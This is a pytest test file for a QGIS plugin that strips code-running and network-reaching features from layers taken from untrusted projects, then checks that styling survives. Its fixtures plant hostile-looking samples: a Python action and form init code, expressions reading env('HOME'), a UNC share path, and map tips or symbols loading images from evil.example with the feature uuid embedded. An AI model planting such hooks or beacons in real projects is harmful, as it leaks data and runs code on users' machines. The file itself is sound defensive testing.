"""A project from someone else brings layers of the case: their look is kept, what acts or reaches out is left out."""

from __future__ import annotations

import pytest
from qgis.core import (
    Qgis,
    QgsAction,
    QgsConditionalStyle,
    QgsDataProvider,
    QgsDefaultValue,
    QgsEditFormConfig,
    QgsField,
    QgsFillSymbol,
    QgsPalLayerSettings,
    QgsProperty,
    QgsRasterFillSymbolLayer,
    QgsSingleSymbolRenderer,
    QgsSymbolLayer,
    QgsTextFormat,
    QgsVectorLayer,
    QgsVectorLayerSimpleLabeling,
    QgsVectorLayerUtils,
)
from qgis.PyQt.QtCore import QVariant
from qgis.PyQt.QtGui import QColor

from plugin.canvas.adopted import leave_out
from plugin.canvas.forms import give_form
from plugin.canvas.source import is_at
from plugin.case.schema import TABLES

MARK = "evil"


def add_action(layer):
    layer.actions().addAction(QgsAction(QgsAction.ActionType.GenericPython, MARK, "import os", "", False, "", set()))


def add_form_code(layer):
    form = layer.editFormConfig()
    form.setInitCodeSource(QgsEditFormConfig.PythonInitCodeSource.CodeSourceDialog)
    form.setInitCode("def evil(dialog, layer, feature): pass")
    form.setInitFunction("evil")
    layer.setEditFormConfig(form)


def add_form_file(layer):
    form = layer.editFormConfig()
    form.setInitCodeSource(QgsEditFormConfig.PythonInitCodeSource.CodeSourceFile)
    form.setInitFilePath("/somewhere/evil.py")
    layer.setEditFormConfig(form)


def add_form_page(layer):
    form = layer.editFormConfig()
    form.setLayout(QgsEditFormConfig.EditorLayout.TabLayout)
    layer.setEditFormConfig(form)


def add_default(layer):
    layer.setDefaultValueDefinition(
        layer.fields().indexFromName("note"), QgsDefaultValue("env('HOME')", applyOnUpdate=True)
    )


def add_constraint(layer):
    layer.setConstraintExpression(layer.fields().indexFromName("note"), "env('HOME') = 'evil'")


def add_computed_column(layer):
    layer.addExpressionField("env('HOME')", QgsField(MARK, QVariant.String))


def add_map_tip(layer):
    layer.setMapTipTemplate("<img src='http://evil.example/[% \"uuid\" %].png'>")


def add_remote_svg(layer):
    symbol = QgsFillSymbol()
    fill = QgsRasterFillSymbolLayer("http://evil.example/track.png")
    symbol.changeSymbolLayer(0, fill)
    layer.setRenderer(QgsSingleSymbolRenderer(symbol))


def add_picture_of_a_column(layer):
    symbol = QgsFillSymbol()
    fill = QgsRasterFillSymbolLayer("x.png")
    fill.setDataDefinedProperty(QgsSymbolLayer.Property.PropertyFile, QgsProperty.fromField("note"))
    symbol.changeSymbolLayer(0, fill)
    layer.setRenderer(QgsSingleSymbolRenderer(symbol))


def add_condition(layer):
    style = QgsConditionalStyle("sqlite_fetch_and_increment('/x', 'y', 'z', 'w', map()) = 1")
    layer.conditionalStyles().setRowStyles([style])


def add_column_condition(layer):
    layer.conditionalStyles().setFieldStyles("note", [QgsConditionalStyle("@value = env('HOME')")])


def add_order(layer):
    config = layer.attributeTableConfig()
    config.setSortExpression("env('HOME')")
    layer.setAttributeTableConfig(config)


def add_time(layer):
    times = layer.temporalProperties()
    times.setMode(Qgis.VectorTemporalMode.FeatureDateTimeStartAndEndFromExpressions)
    times.setStartExpression("env('HOME')")
    times.setIsActive(True)


def add_label(expression):
    def add(layer):
        settings = QgsPalLayerSettings()
        settings.fieldName = expression
        settings.isExpression = True
        layer.setLabeling(QgsVectorLayerSimpleLabeling(settings))
        layer.setLabelsEnabled(True)

    return add


def add_label_in_html(layer):
    look = QgsTextFormat()
    look.setAllowHtmlFormatting(True)
    settings = QgsPalLayerSettings()
    settings.fieldName = "note"
    settings.setFormat(look)
    layer.setLabeling(QgsVectorLayerSimpleLabeling(settings))


ACTS = {
    "a Python action": (add_action, "actions"),
    "Python that a form begins with": (add_form_code, "code or pages of its form"),
    "a file of Python for a form": (add_form_file, "code or pages of its form"),
    "a form with pages of its own": (add_form_page, "code or pages of its form"),
    "a constraint": (add_constraint, "expressions for values"),
    "a computed column": (add_computed_column, "expressions for values"),
    "a map tip with a remote image": (add_map_tip, "map tips"),
    "a remote image in a symbol": (add_remote_svg, "a style that reaches other files or a network"),
    "a picture that a column names": (add_picture_of_a_column, "a style that reaches other files or a network"),
    "a condition on rows of its table": (add_condition, "expressions that read the machine"),
    "a condition on a column of its table": (add_column_condition, "expressions that read the machine"),
    "an order of its table": (add_order, "expressions that read the machine"),
    "a time by an expression": (add_time, "expressions that read the machine"),
    "a label that reads the machine": (add_label("env('HOME')"), "a style that reaches other files or a network"),
    "a label that loads a layer": (add_label("load_layer('x.gpkg', 'ogr')"),
                                   "a style that reaches other files or a network"),
    "a label that reads a note as HTML": (add_label_in_html, "a style that reaches other files or a network"),
    "a label with a share": (add_label(r"'<img src=\\evil\x.png>'"), "a style that reaches other files or a network"),
}  # fmt: skip


@pytest.fixture
def layer(case, layers):
    return layers.layer("structure")


@pytest.mark.parametrize(("add", "words"), ACTS.values(), ids=ACTS)
def test_is_left_out_and_named(layer, add, words):
    add(layer)
    assert leave_out(layer, "structure") == (words,)
    assert leave_out(layer, "structure") == ()
    assert layer.featureCount() == 2


def test_a_default_value_is_ours_again(layer):
    add_default(layer)
    leave_out(layer, "structure")
    give_form(layer, TABLES["structure"])
    new = QgsVectorLayerUtils.createFeature(layer)
    assert not new["note"]
    assert len(new["uuid"]) == 36


@pytest.mark.parametrize("role", TABLES)
def test_our_own_layers_have_nothing_of_it(case, layers, role):
    assert leave_out(layers.layer(role), role) == ()


def test_the_look_that_a_person_gave_is_kept(layer):
    symbol = QgsFillSymbol.createSimple({"color": "#123456"})
    layer.setRenderer(QgsSingleSymbolRenderer(symbol))
    add_label('"label" || \' \' || "note"')(layer)
    assert leave_out(layer, "structure") == ()
    assert layer.renderer().symbol().color() == QColor("#123456")
    assert layer.labeling().settings().fieldName.startswith('"label"')


def test_a_query_is_not_taken_for_the_table(layer, case):
    source = layer.source() + "|subset=SELECT * FROM structure WHERE label = 'A0'"
    layer.setDataSource(source, layer.name(), "ogr", QgsDataProvider.ProviderOptions())
    assert layer.featureCount() == 1
    assert not is_at(layer, "structure", case.place)


def test_opening_the_case_leaves_it_out_and_tells(case, layers, session, project):
    path = case.path
    layer = layers.layer("structure")
    for add, _ in ACTS.values():
        add(layer)
    file = path.with_name("from someone.qgs")
    assert project.write(str(file))
    project.clear()
    assert session.store is None or session.close() is None
    told = []
    layers.tell = told.append
    assert project.read(str(file))
    session.open(path)
    adopted = layers.layer("structure")
    assert leave_out(adopted, "structure") == ()
    (what,) = told
    assert "actions" in str(what.what)
    assert adopted.actions().actions() == []
    assert "evil" not in adopted.editFormConfig().initCode()


def test_a_style_that_lies_in_the_case_is_not_loaded(layer, layers, session, case, project):
    add_action(layer)
    add_map_tip(layer)
    layer.saveStyleToDatabase("evil", "", True, "")
    path = case.path
    session.close()
    session.open(path)
    again = layers.layer("structure")
    assert again.actions().actions() == []
    assert again.mapTipTemplate() == ""
    assert QgsVectorLayer(again.source(), "as QGIS loads it", "ogr").mapTipTemplate() != ""
